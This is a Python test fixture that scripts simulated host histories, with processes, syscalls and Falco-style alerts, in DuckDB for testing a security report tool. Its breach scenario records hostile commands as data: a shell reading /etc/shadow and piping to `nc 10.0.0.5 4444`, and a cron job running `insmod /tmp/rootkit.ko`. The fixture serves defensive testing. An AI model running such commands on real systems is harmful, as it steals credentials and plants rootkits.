"""Scripted hosts for the report's tests and benchmark.

A ``World`` is a DuckDB database whose `events`, `processes` and `fds` tables
have the shape of analyzer.state's views (docs/contracts.md section 2), and
an alerts file written by analyzer.alerts' own writer. Tests script a host's
history with it (fork, exec, open, connect, alert) and run the real report
code over real DuckDB; the benchmark scales the same story up.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import duckdb
import pyarrow as pa

from analyzer.alerts import AlertsMeta, AlertsWriter, RuleMeta
from analyzer.output import Alert
from capture.schema import SCHEMA

SECOND = 1_000_000_000
T0 = 1_795_000_000 * SECOND  # 2026-11-18, an arbitrary fixed start

# Resolved Falco-field columns the views add, that the report may read.
_FIELD_COLUMNS = [
    pa.field("evt.num", pa.int64()),
    pa.field("evt.type", pa.string()),
    pa.field("proc.name", pa.string()),
    pa.field("proc.cmdline", pa.string()),
    pa.field("fd.name", pa.string()),
]
_EXTRA_COLUMNS = [
    pa.field("_evt_args", pa.map_(pa.string(), pa.string())),
    pa.field("_proc_key", pa.int64()),
    pa.field("_host", pa.string()),
    pa.field("_segment", pa.string()),
]
# Raw capture columns, with dictionary columns read back as plain strings.
_RAW = [pa.field(f.name, f.type.value_type if pa.types.is_dictionary(f.type) else f.type) for f in SCHEMA]
EVENTS_SCHEMA = pa.schema(_RAW + _FIELD_COLUMNS + _EXTRA_COLUMNS)

PROCESSES_SCHEMA = pa.schema([
    ("_proc_key", pa.int64()), ("pid", pa.int32()), ("ppid", pa.int32()), ("_parent_key", pa.int64()),
    ("_prev_key", pa.int64()), ("start_ts", pa.int64()), ("end_ts", pa.int64()), ("comm", pa.string()),
    ("exe", pa.string()), ("exepath", pa.string()), ("args", pa.list_(pa.string())), ("cmdline", pa.string()),
    ("cwd", pa.string()), ("uid", pa.int64()), ("user_name", pa.string()), ("loginuid", pa.int64()),
    ("tty", pa.int32()), ("sid", pa.int32()), ("pgid", pa.int32()), ("container_id", pa.string()),
    ("_host", pa.string()),
])

FDS_SCHEMA = pa.schema([
    ("_proc_key", pa.int64()), ("pid", pa.int32()), ("fd", pa.int32()), ("open_ts", pa.int64()),
    ("close_ts", pa.int64()), ("type", pa.string()), ("typechar", pa.string()), ("name", pa.string()),
    ("l4proto", pa.string()), ("sockfamily", pa.string()), ("lip", pa.string()), ("lport", pa.int64()),
    ("rip", pa.string()), ("rport", pa.int64()), ("is_server", pa.bool_()), ("_host", pa.string()),
])

O_RDONLY, O_WRONLY, O_CREAT, O_TRUNC = 0, 1, 0o100, 0o1000


@dataclass
class World:
    """One host's scripted history. Times are ns; ``now`` advances by ``tick``."""

    host: str = "web-1"
    now: int = T0
    tick: int = 1_000_000
    processes: list[dict[str, Any]] = field(default_factory=list)
    events: list[dict[str, Any]] = field(default_factory=list)
    fds: list[dict[str, Any]] = field(default_factory=list)
    alerts: list[Alert] = field(default_factory=list)
    _by_key: dict[int, dict[str, Any]] = field(default_factory=dict)
    _next_key: int = 1000
    _next_evt: int = 1

    def _time(self, ts: int | None) -> int:
        if ts is None:
            self.now += self.tick
            return self.now
        self.now = max(self.now, ts)
        return ts

    def _row(self, key: int) -> dict[str, Any]:
        return self._by_key[key]

    def _add(self, row: dict[str, Any]) -> None:
        self.processes.append(row)
        self._by_key[row["_proc_key"]] = row

    def spawn(self, parent: int | None, pid: int, comm: str, exepath: str, argv: list[str], *,
              uid: int = 0, user: str = "root", container: str = "host", ts: int | None = None) -> int:
        """A process (fork + exec) under ``parent``; returns its key."""
        self._next_key += 1
        key = self._next_key
        ppid = self._row(parent)["pid"] if parent is not None else 0
        self._add({
            "_proc_key": key, "pid": pid, "ppid": ppid, "_parent_key": parent, "_prev_key": None,
            "start_ts": self._time(ts), "end_ts": None, "comm": comm, "exe": argv[0] if argv else comm,
            "exepath": exepath, "args": argv[1:], "cmdline": " ".join([comm, *argv[1:]]), "cwd": "/",
            "uid": uid, "user_name": user, "loginuid": -1, "tty": 0, "sid": pid, "pgid": pid,
            "container_id": container, "_host": self.host,
        })
        return key

    def exec(self, key: int, comm: str, exepath: str, argv: list[str], ts: int | None = None) -> int:
        """The process ``key`` exec's: a new incarnation, and its execve event."""
        old = self._row(key)
        t = self._time(ts)
        old["end_ts"] = t
        self._next_key += 1
        new = dict(old, _proc_key=self._next_key, _prev_key=key, start_ts=t, end_ts=None, comm=comm,
                   exe=argv[0], exepath=exepath, args=argv[1:], cmdline=" ".join([comm, *argv[1:]]))
        self._add(new)
        self.event(new["_proc_key"], "execve", ts=t, path=exepath, exepath=exepath, argv=argv)
        return new["_proc_key"]

    def exit(self, key: int, ts: int | None = None) -> None:
        t = self._time(ts)
        self._row(key)["end_ts"] = t
        self.event(key, "procexit", ts=t)

    def event(self, key: int, syscall: str, *, ts: int | None = None, res: int = 0, args: dict[str, str] | None = None,
              **columns: Any) -> int:
        proc = self._row(key)
        evt_num = self._next_evt
        self._next_evt += 1
        row = {
            "kind": "evt", "evt_num": evt_num, "ts": self._time(ts), "pid": proc["pid"], "tid": proc["pid"],
            "ppid": proc["ppid"], "uid": proc["uid"], "comm": proc["comm"], "container_id": proc["container_id"],
            "syscall": syscall, "res": res, "evt.num": evt_num, "evt.type": syscall, "proc.name": proc["comm"],
            "proc.cmdline": proc["cmdline"], "_proc_key": key, "_host": self.host, "_segment": "seg-000001.parquet",
            "_evt_args": list((args or {}).items()),
        }
        row.update(columns)
        if "fd.name" not in columns:
            row["fd.name"] = columns.get("path")
        self.events.append(row)
        return evt_num

    def open(self, key: int, path: str, flags: int = O_RDONLY, *, fd: int = 3, ts: int | None = None) -> int:
        num = self.event(key, "openat", ts=ts, res=fd, path=path, flags=flags, dirfd=-100,
                         args={"fd": f"{fd}(<f>{path})", "name": path})
        self.fds.append({"_proc_key": key, "pid": self._row(key)["pid"], "fd": fd, "open_ts": self.now,
                         "close_ts": None, "type": "file", "typechar": "f", "name": path, "_host": self.host})
        return num

    def connect(self, key: int, ip: str, port: int, *, fd: int = 4, lip: str = "10.0.0.2", lport: int = 40000,
                ts: int | None = None) -> int:
        name = f"{lip}:{lport}->{ip}:{port}"
        num = self.event(key, "connect", ts=ts, res=0, fd=fd, sock_family=2, addr_ip=ip, addr_port=port,
                         local_ip=lip, local_port=lport, **{"fd.name": name},
                         args={"fd": f"{fd}(<4t>{name})", "addr": f"{ip}:{port}"})
        self.fds.append({"_proc_key": key, "pid": self._row(key)["pid"], "fd": fd, "open_ts": self.now,
                         "close_ts": None, "type": "ipv4", "typechar": "4", "name": name, "l4proto": "tcp",
                         "sockfamily": "ip", "lip": lip, "lport": lport, "rip": ip, "rport": port,
                         "is_server": False, "_host": self.host})
        return num

    def alert(self, evt_num: int, rule: str, priority: str, *, tags: tuple[str, ...] = (), message: str = "",
              fields: dict[str, Any] | None = None) -> Alert:
        evt = self.events[evt_num - 1]  # evt_num counts from 1, one per event
        alert = Alert(
            time_ns=evt["ts"], rule=rule, priority=priority, source="syscall", hostname=self.host,
            output=f"00:00:00.000000000: {priority} {message}", tags=tuple(sorted(tags)),
            output_fields=fields if fields is not None else {"proc.name": evt["proc.name"], "evt.type": evt["syscall"]},
            evt_num=evt_num, proc_key=str(evt["_proc_key"]), pid=evt["pid"],
            container_id=evt["container_id"], segment=evt["_segment"],
        )
        self.alerts.append(alert)
        return alert

    def database(self) -> duckdb.DuckDBPyConnection:
        """An in-memory DuckDB with `events`, `processes`, `fds` tables shaped like the views."""
        con = duckdb.connect()
        for name, rows, schema in (("events", self.events, EVENTS_SCHEMA),
                                   ("processes", self.processes, PROCESSES_SCHEMA),
                                   ("fds", self.fds, FDS_SCHEMA)):
            table = pa.Table.from_pylist(rows, schema=schema)
            con.register("_staging", table)
            con.execute(f"create table {name} as select * from _staging")
            con.unregister("_staging")
        return con

    def write_alerts(self, path: Path, rule_meta: dict[str, RuleMeta], *, rules_files: tuple[str, ...] = ("rules/default.yaml",),
                     command: str = "trace hunt capture/") -> Path:
        meta = AlertsMeta(captures=("capture/",), rules_files=rules_files, command=command, rule_meta=rule_meta)
        with AlertsWriter(Path(path), meta) as writer:
            for alert in sorted(self.alerts, key=lambda a: a.time_ns):
                writer.write(alert)
        return Path(path)


RULE_META = {
    "Run shell untrusted": RuleMeta("A shell was spawned by a service", "Notice",
                                    ("T1059.004", "mitre_execution", "process", "shell")),
    "Read sensitive file untrusted": RuleMeta("An attempt to read a sensitive file by an untrusted program", "Warning",
                                              ("T1555", "mitre_credential_access", "filesystem")),
    "Outbound connection to C2": RuleMeta("A shell child connected out to a non-local address", "Critical",
                                          ("T1071", "mitre_command_and_control", "network")),
    "Linux Kernel Module Injection": RuleMeta("A kernel module was loaded", "Warning",
                                              ("T1547.006", "mitre_persistence")),
}


@dataclass
class Breach:
    """Keys of the processes of ``breach()``, for assertions."""

    world: World
    init: int
    nginx: int
    worker: int
    shell: int
    cat: int
    nc: int
    cron_job: int


def breach(world: World | None = None, *, siblings: int = 30) -> Breach:
    """A web server compromise, then an unrelated module load an hour later.

    systemd(1) -> nginx(800) -> nginx worker(812) -> sh(900) -> cat /etc/shadow (901)
                                                             -> nc 10.0.0.5 4444 (902)
    systemd(1) -> cron(500) -> sh(1500) -> insmod rootkit.ko (1501)
    plus ``siblings`` uninvolved daemons under systemd and three idle workers.
    """
    w = world or World()
    init = w.spawn(None, 1, "systemd", "/usr/lib/systemd/systemd", ["/sbin/init"], ts=T0 - 3600 * SECOND)
    for i in range(siblings):
        w.spawn(init, 100 + i, f"daemon{i}", f"/usr/sbin/daemon{i}", [f"daemon{i}"])
    cron = w.spawn(init, 500, "cron", "/usr/sbin/cron", ["/usr/sbin/cron", "-f"])
    nginx = w.spawn(init, 800, "nginx", "/usr/sbin/nginx", ["nginx", "-g", "daemon off;"])
    worker = w.spawn(nginx, 812, "nginx", "/usr/sbin/nginx", ["nginx: worker process"], uid=33, user="www-data")
    for pid in (813, 814, 815):
        w.spawn(nginx, pid, "nginx", "/usr/sbin/nginx", ["nginx: worker process"], uid=33, user="www-data")
    w.now = T0
    w.event(worker, "accept4", res=5, fd=3, addr_ip="203.0.113.9", addr_port=51515)
    fork = w.spawn(worker, 900, "nginx", "/usr/sbin/nginx", ["nginx: worker process"], uid=33, user="www-data")
    shell = w.exec(fork, "sh", "/bin/sh", ["sh", "-c", "cat /etc/shadow; nc 10.0.0.5 4444"])
    w.alert(w.events[-1]["evt_num"], "Run shell untrusted", "Notice", tags=RULE_META["Run shell untrusted"].tags,
            message="Shell spawned by untrusted binary (parent_exe=/usr/sbin/nginx)",
            fields={"proc.name": "sh", "proc.pname": "nginx", "proc.cmdline": "sh -c cat /etc/shadow; nc 10.0.0.5 4444",
                    "user.name": "www-data", "container.id": "host"})
    cat_fork = w.spawn(shell, 901, "sh", "/bin/sh", ["sh"], uid=33, user="www-data")
    cat = w.exec(cat_fork, "cat", "/usr/bin/cat", ["cat", "/etc/shadow"])
    num = w.open(cat, "/etc/shadow", O_RDONLY)
    w.alert(num, "Read sensitive file untrusted", "Warning", tags=RULE_META["Read sensitive file untrusted"].tags,
            message="Sensitive file opened for reading (file=/etc/shadow)",
            fields={"fd.name": "/etc/shadow", "proc.name": "cat", "user.name": "www-data", "evt.type": "openat"})
    w.open(cat, "/etc/ld.so.cache", O_RDONLY)
    w.exit(cat)
    nc_fork = w.spawn(shell, 902, "sh", "/bin/sh", ["sh"], uid=33, user="www-data")
    nc = w.exec(nc_fork, "nc", "/usr/bin/nc", ["nc", "10.0.0.5", "4444"])
    num = w.connect(nc, "10.0.0.5", 4444)
    w.alert(num, "Outbound connection to C2", "Critical", tags=RULE_META["Outbound connection to C2"].tags,
            message="Outbound connection (connection=10.0.0.2:40000->10.0.0.5:4444)",
            fields={"fd.name": "10.0.0.2:40000->10.0.0.5:4444", "proc.name": "nc", "fd.rip": "10.0.0.5", "fd.rport": 4444})
    w.open(nc, "/tmp/.x", O_WRONLY | O_CREAT | O_TRUNC, fd=5)

    w.now = T0 + 3600 * SECOND
    job = w.spawn(cron, 1500, "sh", "/bin/sh", ["sh", "-c", "insmod /tmp/rootkit.ko"])
    insmod = w.spawn(job, 1501, "insmod", "/usr/sbin/insmod", ["insmod", "/tmp/rootkit.ko"])
    w.open(insmod, "/tmp/rootkit.ko", O_RDONLY)
    num = w.event(insmod, "finit_module", res=0, fd=3, **{"fd.name": "/tmp/rootkit.ko"})
    w.alert(num, "Linux Kernel Module Injection", "Warning", tags=RULE_META["Linux Kernel Module Injection"].tags,
            message="Kernel module loaded (file=/tmp/rootkit.ko)", fields={"proc.name": "insmod"})
    return Breach(w, init, nginx, worker, shell, cat, nc, insmod)
